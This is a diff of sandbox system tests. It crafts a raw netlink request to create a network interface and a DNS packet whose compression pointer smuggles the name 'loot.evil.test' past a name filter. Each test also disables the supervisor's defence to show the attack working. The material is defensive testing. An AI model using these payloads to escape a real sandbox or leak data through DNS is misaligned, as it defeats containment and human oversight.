@@ -7,7 +7,7 @@ import subprocess
 
 from tests.system.conftest import Person
 from tests.system.outside import ALLOW_GOOD, TRY, Outside, outside, run
-from tests.system.outside_world import EVIL, GOOD, META
+from tests.system.outside_world import EVIL, GOOD, META, NAMESERVER
 
 __all__ = ["outside"]
 
@@ -289,3 +289,99 @@ def test_a_datagram_takes_the_way_that_its_address_has(person: Person, outside: 
     assert json.loads(done.stdout) == [4, None, 6]
     # sent, and gone to whoever is behind the other device
     assert outside.seen()[f"udp {GOOD}:9999"][5:] == ["plain"] * 3
+
+
+#: Ways to have the kernel change the session's own network: in it the supervisor may anything.
+OWN_LINKS = (
+    TRY
+    + """
+import struct
+def attribute(kind, data):
+    return struct.pack("=HH", 4 + len(data), kind) + data + bytes(-len(data) % 4)
+kind = attribute(18, attribute(1, b"veth\\0"))  # IFLA_LINKINFO, IFLA_INFO_KIND
+body = struct.pack("=BxHiII", 0, 0, 0, 0, 0) + kind
+request = struct.pack("=IHHII", 16 + len(body), 16, 0x605, 1, 0) + body  # RTM_NEWLINK
+def made(send):
+    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as sock:
+        send(sock)
+        return struct.unpack_from("=i", sock.recv(4096), 16)[0] == 0
+def connected(sock):
+    sock.connect((0, 0))
+    sock.send(request)
+print(json.dumps([
+    made(lambda sock: sock.send(request)), made(connected),
+    made(lambda sock: sock.sendto(request, (0, 0))),
+    made(lambda sock: sock.sendmsg([request], [], 0, (0, 0))),
+    attempt(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).connect((4242, 0))),
+    attempt(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).sendto(request, (0, 1))),
+    [name for _, name in socket.if_nameindex() if name.startswith("veth")],
+]))
+"""
+)
+#: The supervisor with the defence off: a message goes out under the name that it was given.
+NAMED = """
+import sys
+from safeclaw.daemon.cli.main import main
+from safeclaw.sandbox import messages
+judged = messages._Sending._judged
+
+def under_its_name(self, message, name, **more):
+    return judged(self, message, name or message.name, **more)
+
+messages._Sending._judged = under_its_name
+sys.exit(main())
+"""
+
+
+def test_the_supervisors_rights_in_the_sessions_network_are_not_the_agents(person: Person) -> None:
+    done = run(person, (), OWN_LINKS)
+    assert done.returncode == 0, done.stderr
+    assert json.loads(done.stdout) == [False, False, False, False, "EPERM", "EPERM", []]
+
+    driver = person.base / "driver.py"
+    driver.write_text(NAMED)
+    person.own()
+    person.program[1:] = [str(driver)]
+    done = run(person, (), OWN_LINKS)
+    assert json.loads(done.stdout)[:4] == [False, False, True, True], done.stderr
+
+
+#: Judged as loot.evil.test.good.test: its end is where what is passed on has a zero.
+POINTED = (
+    TRY
+    + f"""
+import struct
+labels = b"\\x04loot\\x04evil\\x04test"
+pointer = struct.pack(">H", 0xC000 | 12 + len(labels) + 2 + 4 + 5)
+packet = bytes((0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 1)) + labels + pointer + bytes((0, 1, 0, 1))
+packet += bytes((0, 0, 41, 4, 208)) + b"\\x04good\\x04test\\0"
+with socket.create_connection(("{NAMESERVER}", 53)) as sock:
+    sock.sendall(struct.pack(">H", len(packet)) + packet)
+    print(len(sock.recv(100)))
+print(fetch("good.test", 8443))
+"""
+)
+#: The supervisor with the defence off: a question's name may be put together by pointers.
+POINTERS = """
+import sys
+from safeclaw.daemon.cli.main import main
+from safeclaw.sandbox import dns
+name = dns._name
+dns._name = lambda packet, offset, **_: name(packet, offset)
+sys.exit(main())
+"""
+
+
+def test_a_question_cannot_be_judged_by_another_name_than_is_asked(
+    person: Person, outside: Outside
+) -> None:
+    done = run(person, (ALLOW_GOOD,), POINTED)
+    assert done.stdout.split("\n")[:2] == ["0", f"hello from tcp {GOOD}:8443"], done.stderr
+    assert "dns tcp" not in outside.seen()
+
+    driver = person.base / "driver.py"
+    driver.write_text(POINTERS)
+    person.own()
+    person.program[1:] = [str(driver)]
+    run(person, (ALLOW_GOOD,), POINTED)
+    assert outside.seen()["dns tcp"] == ["loot.evil.test"]
